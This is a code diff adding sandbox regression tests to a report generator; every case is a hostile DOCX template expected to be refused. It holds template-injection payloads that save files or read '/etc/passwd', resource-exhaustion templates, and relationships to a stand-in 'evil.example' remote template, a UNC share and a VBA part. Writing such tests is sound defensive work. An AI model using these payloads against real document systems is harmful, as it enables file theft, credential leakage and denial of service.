@@ -175,6 +175,7 @@ def plan_yaml_cases() -> dict[str, tuple[Data, str]]:
         "bad_dates.yaml": (good.replace("2023-01-01", "2023-13-45").encode(), ERROR),
         "huge_float_target.yaml": (target("1.0e+300"), ERROR),
         "huge_int_target.yaml": (target("1" * 400), ERROR),
+        "tiny_target.yaml": (target("1.0e-300"), ERROR),
     }
     return cases
 
@@ -270,12 +271,70 @@ def template_cases(valid_docx: bytes, xlsx: bytes) -> dict[str, tuple[Data, str]
             ERROR,
         ),
         "tpl_power_big.docx": (body_with("{{ 7 ** 99999999 }}"), ERROR),
+        **sandbox_cases(valid_docx, body_with),
         "tpl_range_nested.docx": (
             body_with(
                 "{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}"
             ),
             ERROR,
         ),
+    }
+
+
+def sandbox_cases(
+    valid_docx: bytes, body_with: Callable[[str], bytes]
+) -> dict[str, tuple[Data, str]]:
+    """Templates that reach library objects, blow up widths or loops, nest too deep, or carry
+    external or active parts (issue 14): every one is refused (lint and report)."""
+    rels = "word/_rels/document.xml.rels"
+    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+    def with_rel(rel_type: str, target: str, external: bool = True) -> bytes:
+        mode = ' TargetMode="External"' if external else ""
+        rel = f'<Relationship Id="rIdX" Type="{kind}/{rel_type}" Target="{target}"{mode}/>'
+        return rezip(
+            valid_docx,
+            part_edit(rels, lambda t: t.replace("</Relationships>", rel + "</Relationships>")),
+        )
+
+    escape = "/tmp/reportgen-hostile-escape.docx"
+    return {
+        "tpl_escape_save.docx": (body_with(f"{{{{ chart.tpl.save('{escape}') }}}}"), ERROR),
+        "tpl_escape_docx_save.docx": (
+            body_with(f"{{{{ chart.tpl.docx.save('{escape}') }}}}"),
+            ERROR,
+        ),
+        "tpl_escape_read_file.docx": (
+            body_with("{{ chart.tpl.replace_zipname('docProps/app.xml', '/etc/passwd') }}"),
+            ERROR,
+        ),
+        "tpl_escape_format_attr.docx": (body_with("{{ '{0.tpl}'.format(chart) }}"), ERROR),
+        "tpl_center.docx": (body_with("{{ title|center(100000000) }}"), ERROR),
+        "tpl_percent_width.docx": (body_with("{{ ('%' ~ 999999999 ~ 's') % title }}"), ERROR),
+        "tpl_format_width.docx": (
+            body_with("{{ ('{:>' ~ 999999999 ~ '}').format(title) }}"),
+            ERROR,
+        ),
+        "tpl_lipsum.docx": (body_with("{{ lipsum(9999, False, 9999, 9999) }}"), ERROR),
+        "tpl_loops_product.docx": (
+            body_with(
+                "{% for a in range(999) %}{% for b in range(999) %}{% for c in range(999) %}"
+                "{% endfor %}{% endfor %}{% endfor %}"
+            ),
+            ERROR,
+        ),
+        "tpl_deep_parens.docx": (body_with("{{ " + "(" * 500 + "1" + ")" * 500 + " }}"), ERROR),
+        "tpl_recursive_macro.docx": (
+            body_with("{% macro f(n) %}{{ f(n) }}{% endmacro %}{{ f(1) }}"),
+            ERROR,
+        ),
+        "tpl_attached_template.docx": (
+            with_rel("attachedTemplate", "http://evil.example/t.dotm"),
+            ERROR,
+        ),
+        "tpl_linked_image_unc.docx": (with_rel("image", "\\\\evil\\share\\x.png"), ERROR),
+        "tpl_altchunk.docx": (with_rel("aFChunk", "chunk.html", external=False), ERROR),
+        "tpl_macros.docx": (rezip(valid_docx, keep, {"word/vbaProject.bin": b"VBA"}), ERROR),
     }
 
 
